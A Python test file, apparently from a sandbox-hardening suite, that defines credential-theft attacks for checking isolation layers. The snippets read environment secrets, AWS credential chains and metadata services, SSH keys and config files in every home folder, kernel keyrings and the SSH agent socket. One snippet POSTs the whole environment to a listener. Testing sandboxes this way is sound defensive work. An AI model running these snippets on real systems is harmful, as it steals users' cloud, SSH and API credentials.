"""Attacks on credentials: where programs usually keep them, and how cloud libraries find them."""

from __future__ import annotations

from attack import Family, told

FAMILY = Family(
    "credentials", {"layers": ("environment",), "open_on": ("naive",), "shows": "A planted secret came out."}
)
attack = FAMILY.attack

attack(
    "environment",
    tries="Returns its environment.",
    body="return dict(os.environ)",
)
attack(
    "environment_below_python",
    tries="Reads the environment the process was started with, below Python and in /proc.",
    body="""
    libc.getenv.restype = ctypes.c_char_p
    found = [str(libc.getenv(name)) for name in (b"AWS_SECRET_ACCESS_KEY", b"ANTHROPIC_API_KEY", b"ARBITER_REDIS_URL")]
    strings = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for number in range(500):
        if not strings[number]: break
        found.append(strings[number].decode("latin-1"))
    return [*found, attempt(text, "/proc/self/environ"), attempt(text, "/proc/self/cmdline")]
    """,
)
attack(
    "cloud_chain",
    tries="Asks the cloud library for whatever credentials it finds by itself.",
    wall=15.0,
    layers=("environment",),
    body="""
    import botocore.session
    found = botocore.session.Session().get_credentials()
    return found and [found.access_key, found.secret_key]
    """,
)
attack(
    "shared_credentials",
    tries="Points the cloud library at the credentials file of the host.",
    layers=("box", "landlock"),
    open_on=(),
    wall=15.0,
    body="""
    os.environ["AWS_SHARED_CREDENTIALS_FILE"] = w["aws"]
    os.environ["HOME"] = w["home"]
    for name in ("AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID"): os.environ.pop(name, None)
    import botocore.session
    found = botocore.session.Session().get_credentials()
    return [found.access_key, found.secret_key]
    """,
)
attack(
    "metadata_service",
    tries="Lets the cloud library fetch credentials from a metadata service, which the test plays.",
    layers=("network", "landlock", "seccomp"),
    open_on=(),
    shows="A listener was reached.",
    wall=15.0,
    body="""
    from botocore.utils import InstanceMetadataFetcher
    fetcher = InstanceMetadataFetcher(timeout=0.3, num_attempts=1, env={}, base_url=f"http://127.0.0.1:{w['tcp']}")
    return fetcher.retrieve_iam_role_credentials()
    """,
)
attack(
    "model_endpoint",
    tries="Sends a request to a model itself instead of asking for it.",
    layers=("network", "landlock", "seccomp"),
    open_on=(),
    shows="A listener was reached.",
    body="""
    import http.client
    client = http.client.HTTPConnection("127.0.0.1", w["tcp"], timeout=0.3)
    client.request("POST", "/model/x/converse", json.dumps(dict(os.environ)))
    """,
)
attack(
    "homes",
    tries="Looks through every home folder of the machine for files that usually hold credentials.",
    layers=("box", "landlock"),
    open_on=(),
    body="""
    import pwd
    homes = {w["home"], *(each.pw_dir for each in pwd.getpwall())}
    names = (".aws/credentials", ".netrc", ".config/gh/hosts.yml", ".ssh/id_ed25519", ".pypirc", ".docker/config.json")
    return [each for each in (attempt(text, f"{home}/{name}") for home in homes for name in names) if each and "SECRET" in each]
    """,
)
attack(
    "keyring",
    tries="Searches the session's keyring, which children inherit, and leaves a key in it.",
    layers=("seccomp",),
    open_on=(),
    body="""
    found = []
    for ring in (-3, -4, -5, -2, -1):
        key = syscall("keyctl", 10, ring, b"user", b"arbiter-escape", 0)
        if key > 0:
            data = ctypes.create_string_buffer(200)
            syscall("keyctl", 11, key, data, 200)
            found.append(data.value.decode("latin-1"))
    return found
    """,
)
attack(
    "key_left_behind",
    tries="Adds a key to a keyring that outlives the run.",
    layers=("seccomp",),
    open_on=(),
    shows="It was given one.",
    shown=told,
    body="""
    for ring in (-4, -3):
        key = syscall("add_key", b"user", w["token"].encode(), b"x", 1, ring)
        if key > 0:
            syscall("keyctl", 9, key, ring)
            return w["token"]
    """,
)
attack(
    "agent_socket",
    tries="Asks the agent that holds the user's keys.",
    layers=("box", "seccomp"),
    open_on=(),
    shows="A listener was reached.",
    body="""
    end = socket.socket(socket.AF_UNIX)
    end.connect(os.environ.get("SSH_AUTH_SOCK", w["path"]))
    end.sendall(b"\\0\\0\\0\\1\\x0b")
    """,
)
